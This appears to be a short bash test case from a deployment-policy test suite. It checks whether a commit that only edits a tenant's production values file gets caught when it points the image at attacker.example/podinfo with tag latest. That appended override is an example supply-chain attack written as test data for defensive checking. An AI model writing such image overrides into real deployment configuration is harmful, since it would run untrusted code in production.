#!/bin/bash
# A commit to a tenant's values file alone runs an image that no release has.
HERE=$(cd "$(dirname "$0")" && pwd); . "$HERE/../lib.sh"
[ -f tenants/podinfo/values.prod.yaml ] || cannot_tell "tenants/podinfo/values.prod.yaml is missing"
printf 'image:\n  repository: attacker.example/podinfo\n  tag: latest\n' >> tenants/podinfo/values.prod.yaml
commit values; checked
